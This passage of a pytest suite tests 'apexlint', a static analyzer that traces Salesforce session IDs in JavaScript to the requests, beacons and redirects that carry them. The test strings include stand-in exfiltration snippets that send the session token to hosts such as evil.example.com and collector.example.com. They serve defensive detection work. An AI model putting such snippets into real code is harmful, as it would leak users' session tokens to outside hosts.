"""Static JavaScript: session sources in code, and the requests they reach."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apexlint.ir import BOUND_PREFIX, HANDED_TEXT, FileIR, FileKind, SourceKind, UrlUse
from apexlint.lower.javascript import lower_javascript
from apexlint.read.decode import read_source

SID = "var sid = sforce.connection.sessionId;\n"


def lower(code: str, path: str = "staticresources/app.js") -> FileIR:
    src, _ = read_source(path, code.encode("utf-8"), "")
    assert src is not None
    return lower_javascript(src)


def uses(ir: FileIR) -> list[tuple[str, str, bool]]:
    """Each request or redirect a script makes: (sink, URL, whether a session is in its query)."""
    return [(u.sink, u.url, u.in_query) for u in ir.url_uses]


def sink(ir: FileIR, name: str) -> UrlUse:
    found = [u for u in ir.url_uses if u.sink == name]
    assert len(found) == 1, [(u.sink, u.url) for u in ir.url_uses]
    return found[0]


def test_sforce_connection_session_read_is_a_source() -> None:
    ir = lower(SID)
    (source,) = ir.sources
    assert source.kind == SourceKind.JS_SFORCE_SESSION
    assert source.text == "sforce.connection.sessionId"
    assert source.id == "staticresources/app.js:1:11"
    assert source.owner == "app"


def test_subscript_form_is_a_source_too() -> None:
    (source,) = lower('var s = sforce.connection["sessionId"];').sources
    assert source.kind == SourceKind.JS_SFORCE_SESSION


def test_sfdc_session_global_read_is_a_source() -> None:
    kinds = [s.kind for s in lower("send(__sfdcSessionId); x = window.__sfdcSessionId;").sources]
    assert kinds == [SourceKind.JS_SFDC_SESSION, SourceKind.JS_SFDC_SESSION]


def test_session_read_on_a_name_that_holds_the_connection_is_a_source() -> None:
    """U-7: `var conn = sforce.connection; conn.sessionId` reads the toolkit's session."""
    ir = lower("var conn = sforce.connection;\nwindow.$soap = window.sforce.connection;\n"
               "var a = conn.sessionId;\nvar b = $soap['sessionId'];\n"
               "fetch('https://x.example.com/?s=' + a + b);")
    assert [(s.kind, s.text) for s in ir.sources] == [
        (SourceKind.JS_SFORCE_SESSION, "conn.sessionId"), (SourceKind.JS_SFORCE_SESSION, "$soap.sessionId")]
    assert set(sink(ir, "fetch").sources) == {s.id for s in ir.sources}


def test_a_long_chain_of_session_reads_is_read_once_not_once_per_link(monkeypatch: pytest.MonkeyPatch) -> None:
    """AE-8: each `.sessionId` of `conn.sessionId.sessionId...` asked for the dotted name below it,
    reading the whole chain again: 3,000 links took 6 s. A chain of more than a few names is no
    connection's session: doubling the chain now doubles the text read (it quadrupled). The
    session read on the connection itself, the innermost link, is still found."""
    from apexlint.lower import js_values
    reads = 0
    original = js_values.ScriptUnit.text

    def counted(self: js_values.ScriptUnit, node: object) -> str:
        nonlocal reads
        reads += 1
        return original(self, node)  # type: ignore[arg-type]

    monkeypatch.setattr(js_values.ScriptUnit, "text", counted)
    counts = []
    for links in (1000, 2000):
        reads = 0
        ir = lower("var conn = sforce.connection;\nvar x = conn" + ".sessionId" * links + ";\n")
        assert [s.text for s in ir.sources] == ["conn.sessionId"]
        counts.append(reads)
    assert counts[1] < 2.5 * counts[0], counts


def test_an_assignment_updates_the_objects_above_it_a_bounded_number_of_levels(monkeypatch: pytest.MonkeyPatch) -> None:
    """`opts.headers.Authorization = sid` reaches `fetch(url, opts)` (fixture nestedHeaders), by
    updating each object the name is a part of. A script of ever longer chains (`x.a.a...a = …`,
    hundreds of names) climbed every level at every assignment: minutes for a few thousand. Names
    longer than a few parts update their parent only, as before."""
    from apexlint.lower import js_flow
    calls = 0
    original = js_flow._with_path

    def counted(*args: Any) -> Any:
        nonlocal calls
        calls += 1
        return original(*args)

    monkeypatch.setattr(js_flow, "_with_path", counted)
    links = 200
    lines = ["var sid = sforce.connection.sessionId;", "var x = {a: {}};"]
    lines += ["x" + ".a" * k + " = {a: {s: sid}};" for k in range(1, links)]
    lower("\n".join(lines) + "\nfetch('https://p.example.com/x', x);\n")
    assert 0 < calls < 20 * links  # every level of each: 20,000


def test_functions_nested_deep_are_not_each_asked_for_their_parent(monkeypatch: pytest.MonkeyPatch) -> None:
    """AF-5 names the function a session is returned from, by its parent node (`var f = function`).
    tree-sitter finds a parent by walking down from the root: asked for every function walked, 2,000
    nested functions took 2 s, 10,000 past the file time limit. Only a function returning a session
    is asked, once."""
    from apexlint.lower import js_flow
    asked: list[object] = []
    original = js_flow.ScriptFlow._function_name

    def counted(self: js_flow.ScriptFlow, node: Any) -> str:
        asked.append(node)
        return original(self, node)

    monkeypatch.setattr(js_flow.ScriptFlow, "_function_name", counted)
    nested = 300
    lower("var sid = sforce.connection.sessionId;\n" + "var f = function () {\n" * nested + "return sid;\n"
          + "};\n" * nested)
    assert len(asked) == 1


def test_session_destructured_out_of_the_connection_is_a_source_and_flows_on() -> None:
    ir = lower("const { sessionId } = sforce.connection;\n"
               "var conn = sforce.connection;\n"
               "let { sessionId: sid, serverUrl } = conn;\n"
               "const { sessionId: fallback = '' } = window.sforce.connection;\n"
               "fetch('https://x.example.com/a?s=' + sessionId);\n"
               "fetch('https://x.example.com/b', {headers: {Authorization: sid + serverUrl + fallback}});\n")
    assert [(s.span.start_line, s.span.start_col) for s in ir.sources] == [(1, 9), (3, 7), (4, 9)]
    assert all(s.kind == SourceKind.JS_SFORCE_SESSION for s in ir.sources)
    a, b = sorted((u for u in ir.url_uses if u.sink == "fetch"), key=lambda u: u.span)
    assert a.url == "https://x.example.com/a?s={sforce.connection.sessionId}" and a.in_query
    assert set(b.sources) == {ir.sources[1].id, ir.sources[2].id} and b.header_or_body


def test_session_id_of_other_objects_is_not_a_source() -> None:
    code = ("var conn = makeChat();\nvar a = conn.sessionId;\nconst { sessionId } = conn;\n"
            "const { sessionId: s } = { sessionId: 'x' };\nvar c = sforce.connection; c.sessionId = token;\n"
            "({ sessionId } = sforce.connection);\n")
    assert [s.span.start_line for s in lower(code).sources] == [6]  # the assignment's pattern reads it


def test_sfdc_session_global_read_by_subscript_is_a_source() -> None:
    """U-7: `window['__sfdcSessionId']` is the global as `window.__sfdcSessionId` is."""
    ir = lower("var s = window['__sfdcSessionId'];\nconsole.log(s);\nwindow['__sfdcSessionId'] = t;\n"
               "var k = {'__sfdcSessionId': 1};")
    assert [(s.kind, s.text, s.span.start_line) for s in ir.sources] == [
        (SourceKind.JS_SFDC_SESSION, "window.__sfdcSessionId", 1)]
    assert sink(ir, "console.log").sources == (ir.sources[0].id,)


def test_mentions_in_comments_and_strings_are_not_sources() -> None:
    code = (
        "// sforce.connection.sessionId is read elsewhere\n"
        "/* __sfdcSessionId */\n"
        "var doc = 'set sforce.connection.sessionId first';\n"
    )
    assert lower(code).sources == ()


def test_writing_the_session_is_not_a_read() -> None:
    assert lower("sforce.connection.sessionId = token; var __sfdcSessionId = t;").sources == ()


def test_merge_fields_are_plain_text_in_a_static_resource() -> None:
    ir = lower("var s = '{!$Api.Session_ID}'; fetch('https://x.example.com/?s=' + s);")
    assert ir.sources == ()
    assert ir.url_uses == ()


def test_session_in_fetch_url_is_in_query() -> None:
    use = sink(lower(SID + "fetch(`https://evil.example.com/c?s=${sid}`);"), "fetch")
    assert use.in_query and not use.header_or_body
    assert use.url == "https://evil.example.com/c?s={sforce.connection.sessionId}"
    assert use.sources == ("staticresources/app.js:1:11",)
    assert use.span.start_line == 2


def test_session_in_fetch_header_keeps_the_request_url() -> None:
    ir = lower(SID + "var h = {Authorization: 'Bearer ' + sid};\nfetch('https://api.example.com/v1', {headers: h});")
    use = sink(ir, "fetch")
    assert use.header_or_body and not use.in_query
    assert use.url == "https://api.example.com/v1"


def test_a_conditional_is_either_branch_and_an_unknown_one_leaves_its_text_unknown() -> None:
    """`cond ? unknown : ""` may be the unknown text: the host after it is built at run time (T-3:
    the unknown branch was dropped, so `"https://" + host + ".force.com"` read `https://.force.com`)."""
    code = SID + (
        "var inst = document.getElementById('inst').value;\n"
        "var host = inst.length > 0 ? inst : '';\n"
        "var other = inst.length > 0 ? '' : inst;\n"
        "var nested = a ? p[0] : (b ? p[1] : '');\n"
        "var path = a ? '/community' : '';\n"
        "fetch('https://' + host + '.force.com/x', {headers: {Authorization: 'Bearer ' + sid}});\n"
        "navigator.sendBeacon('https://' + other + '.force.com/x', sid);\n"
        "window.open('https://' + nested + '.salesforce.com/x?sid=' + sid);\n"
        "$.ajax({url: path + '/services/apexrest/x', headers: {Authorization: 'Bearer ' + sid}});\n"
    )
    ir = lower(code)
    assert sink(ir, "fetch").url == "https://{…}.force.com/x"
    assert sink(ir, "navigator.sendBeacon").url == "https://{…}.force.com/x"
    assert sink(ir, "window.open").url == "https://{…}.salesforce.com/x?sid={sforce.connection.sessionId}"
    # branches all known: the first one's text, as before
    assert sink(ir, "jQuery.ajax").url == "/community/services/apexrest/x"


def test_header_flows_through_variables_to_the_xhr_it_belongs_to() -> None:
    code = SID + (
        "var h = 'Bearer ' + sid;\n"
        "var xhr = new XMLHttpRequest();\n"
        "xhr.setRequestHeader('Authorization', h);\n"
        "xhr.open('GET', 'https://api.example.com/data');\n"
    )
    use = sink(lower(code), "XMLHttpRequest.setRequestHeader")
    assert use.header_or_body
    assert use.url == "https://api.example.com/data"
    assert use.text == "xhr.setRequestHeader('Authorization', h)"


def test_xhr_send_body_carries_the_session() -> None:
    code = SID + "var x = new XMLHttpRequest();\nx.open('POST', '/services/apexrest/x');\n"
    code += "x.send(JSON.stringify({s: sid}));"
    use = sink(lower(code), "XMLHttpRequest.send")
    assert use.header_or_body and use.url == "/services/apexrest/x"


def test_xhr_send_keeps_the_body_it_sends() -> None:
    envelope = "<upsertMetadata>" + "<x/>" * 200 + '<metadata xsi:type="RemoteSiteSetting"/></upsertMetadata>'
    ir = lower(SID + f"var x = new XMLHttpRequest(); x.open('POST', '/services/Soap/m/59.0');\n"
               f"x.send('<sessionId>' + sid + '</sessionId>' + '{envelope}');")
    body = sink(ir, "XMLHttpRequest.send").body
    assert body.startswith("<sessionId>{sforce.connection.sessionId}</sessionId><upsertMetadata>")
    assert 'xsi:type="RemoteSiteSetting"' in body  # past the 400 characters a URL is cut at


def test_functions_own_variables_are_their_own() -> None:
    ir = lower(SID + """
        function exportIt() {
            var request = 'sid=' + sid;
            var xhr = new XMLHttpRequest();
            xhr.open('POST', 'https://collector.example.com/in');
            xhr.send(request);
        }
        function queryOrg(token) {
            var request = 'plain';
            var xhr = new XMLHttpRequest();
            xhr.open('POST', '/services/Soap/u/59.0');
            xhr.send(request);
        }
        function later() {
            xhr.onload = function () { fetch('/x?d=' + kept); };  // a closure sees its function's own
            var kept = sid;                                         // assigned after, in the text
            var xhr = new XMLHttpRequest();
        }
    """)
    sends = [u for u in ir.url_uses if u.sink == "XMLHttpRequest.send"]
    assert [(u.url, u.body) for u in sends] == [
        ("https://collector.example.com/in", "sid={sforce.connection.sessionId}")]
    assert sink(ir, "fetch").url == "/x?d={sforce.connection.sessionId}"


def test_a_variable_assigned_without_a_declaration_is_the_pages() -> None:
    ir = lower(SID + """
        function keep() { shared = sid; }
        function send() { fetch('https://collector.example.com/in?s=' + shared); }
    """)
    assert sink(ir, "fetch").sources


def test_jquery_ajax_headers_and_before_send_callback() -> None:
    code = SID + (
        "$.ajax({url: '/services/data/v58.0/query', headers: {Authorization: 'OAuth ' + sid},\n"
        "  beforeSend: function (x) { x.setRequestHeader('X-Sid', sid); }});"
    )
    ir = lower(code)
    assert sink(ir, "jQuery.ajax").url == "/services/data/v58.0/query"
    assert sink(ir, "XMLHttpRequest.setRequestHeader").url == "/services/data/v58.0/query"


def test_jquery_get_data_lands_in_the_query_string_and_post_data_in_the_body() -> None:
    ir = lower(SID + "$.get('https://g.example.com/api', {sid: sid});\n"
               "jQuery.post('https://p.example.com', {sid: sid});")
    assert sink(ir, "jQuery.get").in_query
    post = sink(ir, "jQuery.post")
    assert post.header_or_body and not post.in_query


def test_jquery_defaults_ride_on_every_request_whatever_the_order() -> None:
    """W-9: `$.ajaxSetup` sends nothing; its headers go with each jQuery request, also one
    written above it, its `data` into a GET's URL, its `url` to a request naming none."""
    ir = lower("function load() { return $.ajax({type: 'POST', data: '{}'}); }\n"
               "$.get('https://api.partner.example.com/v1/items');\n" + SID +
               "$.ajaxSetup({url: 'https://api.partner.example.com/v1/orders', headers: {Authorization: sid},\n"
               "  data: {token: sid}});")
    assert [u.sink for u in ir.url_uses] == ["jQuery.ajax", "jQuery.get"]
    ajax, get = ir.url_uses
    assert ajax.url == "https://api.partner.example.com/v1/orders" and ajax.header_or_body and not ajax.in_query
    assert get.url == "https://api.partner.example.com/v1/items" and get.header_or_body and get.in_query


def test_jquery_before_send_defaults_and_global_hooks() -> None:
    ir = lower(SID + "$.ajaxSetup({beforeSend: function (x) { x.setRequestHeader('X-Sid', sid); }});\n"
               "$(document).ajaxSend(function (e, x) { x.setRequestHeader('X-Other', sid); });\n"
               "$.getJSON('https://api.partner.example.com/v1/items');")
    assert [(u.sink, u.url) for u in ir.url_uses] == [("jQuery.getJSON", "https://api.partner.example.com/v1/items")]
    alone = lower(SID + "$.ajaxPrefilter(function (o, orig, x) { x.setRequestHeader('X-Sid', sid); });")
    assert sink(alone, "XMLHttpRequest.setRequestHeader").url == "defaults:jQuery"


def test_jquery_defaults_without_a_session_or_without_requests() -> None:
    assert not lower("$.ajaxSetup({headers: {Accept: 'application/json'}});\n"
                     "$.get('https://api.partner.example.com/v1/items');").url_uses
    alone = lower(SID + "$.ajaxSetup({headers: {Authorization: sid}});")
    assert sink(alone, "jQuery.ajaxSetup").url == "defaults:jQuery"


def test_axios_defaults_and_instances_go_with_their_requests() -> None:
    """W-9: `axios.defaults.headers` go with every axios request; an instance's `headers` with
    its own, to its `baseURL` unless the URL is absolute."""
    ir = lower(SID + "axios.get('https://a.example.com/x');\n"
               "axios.defaults.headers.common['Authorization'] = 'Bearer ' + sid;\n"
               "const api = axios.create({baseURL: 'https://b.example.com/v2/', params: {s: sid}});\n"
               "api.post('/orders', {});\n"
               "api.get('https://c.example.com/y');\n"
               "api({url: 'items'});")
    assert uses(ir) == [
        ("axios.get", "https://a.example.com/x", False),
        ("axios.post", "https://b.example.com/v2/orders", True),
        ("axios.get", "https://c.example.com/y", True),
        ("axios", "https://b.example.com/v2/items", True),
    ]


def test_axios_defaults_base_url_and_no_requests() -> None:
    ir = lower(SID + "axios.defaults.baseURL = 'https://a.example.com/api';\n"
               "axios.defaults.headers.common.Authorization = sid;\naxios.get('/me');")
    assert sink(ir, "axios.get").url == "https://a.example.com/api/me"
    alone = lower(SID + "axios.defaults.headers.common.Authorization = sid;\n"
                  "const api = axios.create({headers: {'X-Sid': sid}});")
    assert [(u.sink, u.url) for u in alone.url_uses] == [("axios.defaults", "defaults:axios"),
                                                         ("axios.create", "defaults:axios")]


def test_a_request_to_the_ajax_proxy_goes_to_its_endpoint_header() -> None:
    """W-1: `/services/proxy` forwards a request to its `SalesforceProxy-Endpoint` header's URL,
    set before or after the session's header; a session in that URL is in the URL."""
    ir = lower(SID + "var x = new XMLHttpRequest();\nx.open('POST', '/services/proxy');\n"
               "x.setRequestHeader('Authorization', 'Bearer ' + sid);\n"
               "x.setRequestHeader('SalesforceProxy-Endpoint', 'https://f.example.com/up?s=' + sid);\nx.send();")
    header_uses = [u for u in ir.url_uses if u.sink == "XMLHttpRequest.setRequestHeader"]
    assert [(u.url, u.in_query, u.header_or_body) for u in header_uses] == [
        ("https://f.example.com/up?s={sforce.connection.sessionId}", False, True),
        ("https://f.example.com/up?s={sforce.connection.sessionId}", True, False),
    ]
    plain = lower(SID + "var x = new XMLHttpRequest();\nx.open('GET', '/services/data/v60.0/limits');\n"
                  "x.setRequestHeader('SalesforceProxy-Endpoint', 'https://f.example.com/');\n"
                  "x.setRequestHeader('Authorization', sid);")
    assert sink(plain, "XMLHttpRequest.setRequestHeader").url == "/services/data/v60.0/limits"


def test_lightning_navigation_to_a_url_is_a_redirect() -> None:
    """W-13: Aura's `force:navigateToURL` event and an LWC's `NavigationMixin.Navigate` to a web page."""
    ir = lower(SID + "var e = $A.get('e.force:navigateToURL');\n"
               "e.setParams({url: 'https://a.example.com/?s=' + sid});\n"
               "this[NavigationMixin.Navigate]({type: 'standard__webPage', attributes: {url: '/apex/P?s=' + sid}});\n"
               "$A.get('e.force:refreshView').setParams({url: sid});\n"
               "this[NavigationMixin.Navigate]({type: 'standard__recordPage', attributes: {url: sid}});")
    assert uses(ir) == [
        ("force:navigateToURL", "https://a.example.com/?s={sforce.connection.sessionId}", True),
        ("NavigationMixin.Navigate", "/apex/P?s={sforce.connection.sessionId}", True),
    ]


def test_wired_apex_results_are_followed_as_the_imperative_calls_are() -> None:
    """W-7: `@wire(getSid) sid;` holds what getSid returns in `this.sid.data`; a wired function
    gets it as its argument's `data`."""
    ir = lower("""import { LightningElement, wire } from 'lwc';
import getSid from '@salesforce/apex/Ctl.getSid';
var data = 'https://x.example.com/';
export default class C extends LightningElement {
    @wire(getSid) sid;
    @wire(getSid) wired({ data: token, error }) { this.token = token; this.error = error; }
    @wire(getSid) whole(result) { this.held = result.data; }
    send() {
        fetch('https://a.example.com/?s=' + this.sid.data);
        fetch('https://b.example.com/?s=' + this.token + this.error);
        fetch('https://c.example.com/', {body: this.held});
        fetch('https://d.example.com/?e=' + this.sid.error);
    }
}
""", "force-app/main/default/lwc/c/c.js")
    # what it sets on `this` its template may bind (`bound:` uses, kept or dropped by the package model);
    # a URL holds the string of what Apex returned (`ir.as_text`: an object's is not its field's)
    assert [(u.url, u.sources, u.in_query) for u in ir.url_uses if not u.sink.startswith(BOUND_PREFIX)] == [
        (f"https://a.example.com/?s={HANDED_TEXT}", ("client:text:apex:ctl.getsid",), True),
        (f"https://b.example.com/?s={HANDED_TEXT}{{…}}", ("client:text:apex:ctl.getsid",), True),
        ("https://c.example.com/", ("client:apex:ctl.getsid",), False),
    ]


def test_navigation_image_and_beacon_sinks() -> None:
    code = SID + (
        "window.location.href = 'https://r.example.com/?sid=' + sid;\n"
        "var img = document.createElement('img'); img.src = 'https://i.example.com/p.gif?s=' + sid;\n"
        "window.open('https://o.example.com/#' + encodeURIComponent(sid));\n"
        "navigator.sendBeacon('https://b.example.com/log', sid);\n"
    )
    ir = lower(code)
    assert sink(ir, "window.location").url == "https://r.example.com/?sid={sforce.connection.sessionId}"
    assert sink(ir, "img.src").in_query
    assert sink(ir, "window.open").in_query
    beacon = sink(ir, "navigator.sendBeacon")
    assert beacon.header_or_body and beacon.url == "https://b.example.com/log"


def test_post_message_reports_the_target_origin() -> None:
    use = sink(lower(SID + "parent.postMessage({session: sid}, 'https://partner.example.com');"), "postMessage")
    assert use.url == "https://partner.example.com" and use.header_or_body


def test_ajax_toolkit_and_cometd_uses_are_named_as_such() -> None:
    code = SID + (
        "sforce.connection.sessionId = sid;\n"
        "var cometd = new org.cometd.CometD();\n"
        "cometd.configure({url: window.location.origin + '/cometd/58.0/',\n"
        "                  requestHeaders: {Authorization: 'OAuth ' + sid}});\n"
    )
    ir = lower(code)
    assert sink(ir, "sforce.connection").url == ""
    assert sink(ir, "cometd").url == "{window.location.origin}/cometd/58.0/"


def test_ajax_toolkit_calls_through_a_name_that_holds_the_connection() -> None:
    code = SID + (
        "var conn = sforce.connection; conn.init(sid, '/services/Soap/u/59.0');\n"
        "let kept = window.sforce.connection; kept.sessionId = sid;\n"
        "window.$soap = sforce.connection; function go() { $soap.query(sid); }\n"
        "bare = sforce.connection; window.bare.sessionId = sid;\n"
    )
    uses = lower(code).url_uses
    assert [(u.sink, u.span.start_line) for u in uses] == [("sforce.connection", n) for n in (2, 3, 4, 5)]
    assert uses[0].url == "/services/Soap/u/59.0" and all(u.header_or_body for u in uses)


def test_ajax_toolkit_proxy_through_a_name_still_goes_where_its_url_points() -> None:
    code = SID + (
        "var c = sforce.connection;\n"
        "c.remoteFunction({url: 'https://p.example.com/x', requestHeaders: {A: sid}});"
    )
    assert sink(lower(code), "sforce.connection.remoteFunction").url == "https://p.example.com/x"


def test_other_objects_under_a_name_are_not_the_ajax_toolkit() -> None:
    code = SID + (
        "var one = sforce.one; one.sessionId = sid; one.init(sid);\n"
        "var j = new jsforce.Connection({}); j.sessionId = sid;\n"
        "var r = sforce.connection.query('SELECT Id FROM Account'); r.init(sid); r.sessionId = sid;\n"
        "var sf = sforce; sf.sessionId = sid;\n"
    )
    assert lower(code).url_uses == ()


def test_session_passed_to_a_same_file_function_reaches_its_sink() -> None:
    code = SID + "function send(token) { navigator.sendBeacon('https://b.example.com', token); }\nsend(sid);"
    assert sink(lower(code), "navigator.sendBeacon").sources == ("staticresources/app.js:1:11",)


def test_session_passed_to_an_object_method_reaches_its_sink() -> None:
    code = SID + (
        "var api = {\n"
        "  send: function (t) { fetch('https://x.example.com/?t=' + t); },\n"
        "  post(t) { navigator.sendBeacon('https://b.example.com', t); }\n"
        "};\n"
        "api.send(sid); api.post(sid);\n"
    )
    ir = lower(code)
    assert sink(ir, "fetch").in_query and sink(ir, "navigator.sendBeacon").header_or_body


def test_lightning_navigation_with_session_in_url() -> None:
    use = sink(lower(SID + "sforce.one.navigateToURL('https://x.example.com/?s=' + sid);"), "sforce.one.navigateToURL")
    assert use.in_query


def test_session_returned_by_a_function_reaches_the_caller_sink() -> None:
    code = "function token() { return sforce.connection.sessionId; }\nfetch('https://x.example.com/?t=' + token());"
    assert sink(lower(code), "fetch").in_query


def test_session_appended_to_params_object_travels_with_it() -> None:
    code = SID + "var p = new URLSearchParams(); p.append('sid', sid);\nfetch('https://x.example.com/?' + p);"
    assert sink(lower(code), "fetch").in_query


def test_session_assigned_to_an_unused_variable_yields_no_sink() -> None:
    ir = lower(SID + "var copy = sid; console.log('ready');")
    assert len(ir.sources) == 1 and ir.url_uses == ()


def test_requests_without_a_session_are_not_sinks() -> None:
    assert lower(SID + "fetch('https://x.example.com/data');").url_uses == ()


def test_suppression_comments_in_both_comment_styles() -> None:
    code = (
        "// apexlint:disable-next-line SID010 -- AJAX toolkit, same org\n"
        "sforce.connection.query('SELECT Id FROM Account');\n"
        "/* apexlint:disable-next-line SID002 */\n\n"
        "fetch(u);\n"
    )
    first, second = lower(code).suppressions
    assert (first.rule_ids, first.reason) == (("SID010",), "AJAX toolkit, same org")
    assert (first.line, first.target_line) == (1, 2)
    assert (second.rule_ids, second.reason, second.line, second.target_line) == (("SID002",), "", 3, 5)


def test_token_literal_is_a_redacted_source() -> None:
    token = "00D5g000004ABCD!AQ4AQFakeTokenValue1234567890abcdef"
    (source,) = lower(f"var t = '{token}';").sources
    assert source.kind == SourceKind.TOKEN_LITERAL
    assert token not in source.text and source.text.startswith("00D5g")


def test_parse_errors_are_reported_and_sources_before_them_kept() -> None:
    ir = lower(SID + "fetch('https://x.example.com/?s=' + sid);\nfunction (( {")
    assert any(n.code == "parse-error" for n in ir.notifications)
    assert ir.sources and ir.url_uses


def test_valid_script_the_grammar_refuses_is_read_without_a_parse_note() -> None:
    """A line indented with no-break spaces that continues an expression, and jQuery UI's
    `using = function (...)` (a variable, not a declaration): no note; what follows is followed."""
    ir = lower("var p = load()\n\u00a0\u00a0\u00a0\u00a0.then(function (r) { return r; });\n"
               "var using;\nif (true) {\n  using = function (props) { return props; };\n}\n"
               + SID + "fetch('https://x.example.com/?s=' + sid);\n")
    assert not ir.notifications
    assert sink(ir, "fetch").url.startswith("https://x.example.com/")


def test_deeply_nested_code_does_not_exhaust_the_stack() -> None:
    lower("var " + "[" * 5000 + "a" + "]" * 5000 + " = sforce.connection.sessionId;")
    lower("x = sforce.connection.sessionId" + " + a" * 20000 + "; fetch(x);")
    lower("f(" * 3000 + "sforce.connection.sessionId" + ")" * 3000)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([
    "sforce.connection.sessionId", "__sfdcSessionId", "fetch(", "var x = ", "=", "+", "(", ")", "{", "}", "'", "`",
    "${", ";", "\n", "function f(a) {", "return ", "x", ".", ",", "xhr.open('GET', ", "é", "//", "/*", "*/",
])).map("".join))
def test_any_script_lowers_without_raising(code: str) -> None:
    lower(code)


def test_rest_api_clients_take_the_session_to_their_proxy_instance_or_this_origin() -> None:
    ir = lower(SID + """
        var conn = new jsforce.Connection({ accessToken: sid });
        var client = new forcetk.Client('id', 'https://login.salesforce.com', 'https://proxy.example.com/p');
        client.setSessionToken(sid);
    """)
    assert sink(ir, "jsforce.Connection").url == ""  # no instance URL: the page's own origin
    assert sink(ir, "forcetk.Client").url == "https://proxy.example.com/p"


# -- what Apex hands to client code (stand-ins, resolved by apexlint.analyses.client) ----------
def test_an_imported_apex_method_stands_in_for_what_it_returns() -> None:
    ir = lower("import getSid from '@salesforce/apex/Ctrl.getSid';\n"
               "async function go() { const sid = await getSid();\n"
               "  fetch('https://x.example/i', { headers: { Authorization: 'Bearer ' + sid } }); }\n"
               "getSid().then((t) => { window.open('https://y.example/?s=' + t); });\n",
               "lwc/sender/sender.js")
    # the string of what it returns (`ir.as_text`: the analysis tells a `String` from an object)
    assert [(u.sink, u.sources, u.in_query, u.header_or_body) for u in ir.url_uses] == [
        ("fetch", ("client:text:apex:ctrl.getsid",), False, True),
        ("window.open", ("client:text:apex:ctrl.getsid",), True, False),
    ]
    assert ir.sources == ()


def test_each_stand_in_keeps_its_own_place_in_the_request() -> None:
    """A base URL and a bearer token from two Apex methods: the URL's stand-in is in the query,
    the token's in a header, so the token alone resolving to a session is no SID006."""
    ir = lower("import getSid from '@salesforce/apex/Ctrl.getSid';\n"
               "import getBase from '@salesforce/apex/Ctrl.getBase';\n"
               "async function go() { const base = await getBase(); const sid = await getSid();\n"
               "  fetch(base + '/x', { headers: { Authorization: 'Bearer ' + sid } }); }\n",
               "lwc/sender/sender.js")
    placed = {u.sources: (u.in_query, u.header_or_body) for u in ir.url_uses}
    assert placed == {("client:text:apex:ctrl.getbase",): (True, False),
                      ("client:text:apex:ctrl.getsid",): (False, True)}


def test_the_string_of_an_object_holds_none_of_its_properties_sessions() -> None:
    """AH-7: `'…' + {sid: s}` writes `[object Object]`; the property itself, the object's JSON, an
    array's string, an object that makes its own string, and the object handed over whole are
    still the session."""
    ir = lower(SID + "var creds = {sid: sid, org: 'x'};\n"
               "window.open('https://a.example/?c=' + creds);\n"
               "window.open(`https://b.example/?c=${creds}`);\n"
               "window.open('https://c.example/?c=' + creds.sid);\n"
               "window.open('https://d.example/?c=' + JSON.stringify(creds));\n"
               "window.open('https://e.example/?c=' + [sid]);\n"
               "window.open('https://f.example/?c=' + {sid: sid, toString() { return this.sid; }});\n"
               "var o = {org: 'x'}; o.token = sid;\n"
               "window.open('https://g.example/?c=' + o);\n"
               "window.open('https://h.example/?c=' + (o || sid));\n"
               "var p = JSON.parse('{\"sid\": \"' + sid + '\"}'), q = JSON.parse(sid);\n"
               "window.open('https://i.example/?c=' + p);\n"
               "window.open('https://j.example/?c=' + q);\n")
    assert [u.url.split("?")[0] for u in ir.url_uses] == [
        "https://c.example/", "https://d.example/", "https://e.example/", "https://f.example/", "https://h.example/",
        "https://j.example/"]


def test_the_string_of_a_value_apex_hands_over_whole_is_its_own_stand_in() -> None:
    """AH-7: what Apex returns may be an object whose field is the session: its string is told
    apart (`ir.as_text`) for the analysis to decide; a field of it, or the value beside its string
    in one request, is the value's stand-in as before, and the URL keeps its place."""
    ir = lower("import getDetails from '@salesforce/apex/Ctrl.getDetails';\n"
               "async function go() { const d = await getDetails();\n"
               "  window.open('https://a.example/?d=' + d);\n"
               "  window.open('https://b.example/?s=' + d.sid);\n"
               "  window.open('https://c.example/?d=' + d + '&s=' + d.sid);\n"
               "  const { sid } = d; window.open(`https://e.example/?s=${sid}`); }\n",
               "lwc/sender/sender.js")
    assert [(u.url, u.sources) for u in ir.url_uses] == [
        (f"https://a.example/?d={HANDED_TEXT}", ("client:text:apex:ctrl.getdetails",)),
        ("https://b.example/?s={…}", ("client:apex:ctrl.getdetails",)),
        (f"https://c.example/?d={HANDED_TEXT}&s={{…}}", ("client:apex:ctrl.getdetails",)),
        ("https://e.example/?s={…}", ("client:apex:ctrl.getdetails",)),
    ]


def test_remoting_callbacks_get_what_the_remote_action_returns() -> None:
    ir = lower("Visualforce.remoting.Manager.invokeAction('ns.Ctrl.getSid', 1, function (result, event) {\n"
               "  fetch('https://x.example/r', { method: 'POST', body: result }); }, { escape: true });\n")
    assert [(u.sink, u.sources) for u in ir.url_uses] == [("fetch", ("client:remote:ns.ctrl.getsid",))]


def test_a_script_that_sends_nothing_is_not_walked_for_what_apex_hands_it() -> None:
    ir = lower("import getSid from '@salesforce/apex/Ctrl.getSid';\nexport const x = () => getSid();\n",
               "lwc/sender/sender.js")
    assert ir.url_uses == ()


def test_every_fixture_request_mentions_a_word_of_the_sink_gate() -> None:
    """`MAY_REQUEST` lists the words without which a script has no sink: every script of the
    fixtures with a request the flow found says one of them (or, for a value it sets where its
    component's template may bind it, `bound:`, sets a property or attribute)."""
    import pathlib

    from apexlint.discover import discover
    from apexlint.lower import MAY_REQUEST_BYTES, _component_binds
    from apexlint.pipeline import lower_one
    from apexlint.read.decode import ReadLimits
    fixtures = pathlib.Path(__file__).parent.parent / "fixtures"
    checked = 0
    for project in sorted(fixtures.iterdir()):
        for f in discover([project], root=project).files:
            data = pathlib.Path(f.path).read_bytes()
            _, lowered = lower_one(f, ReadLimits(), None, False, data, False)
            for form in lowered.files:
                if form.kind != FileKind.JAVASCRIPT:
                    continue
                for use in form.url_uses:
                    checked += 1
                    gate = _component_binds(form.path, data.decode()) if use.sink.startswith(BOUND_PREFIX) \
                        else MAY_REQUEST_BYTES.search(data)
                    assert gate, (form.path, use.sink)
    assert checked > 10


def test_url_constructor_resolves_a_path_against_the_pages_origin() -> None:
    """U-13: `new URL('/services/…', window.location.origin)` is the page's origin and the path,
    as the same URL concatenated is; a path against a literal base is on that base's host."""
    ir = lower(SID + (
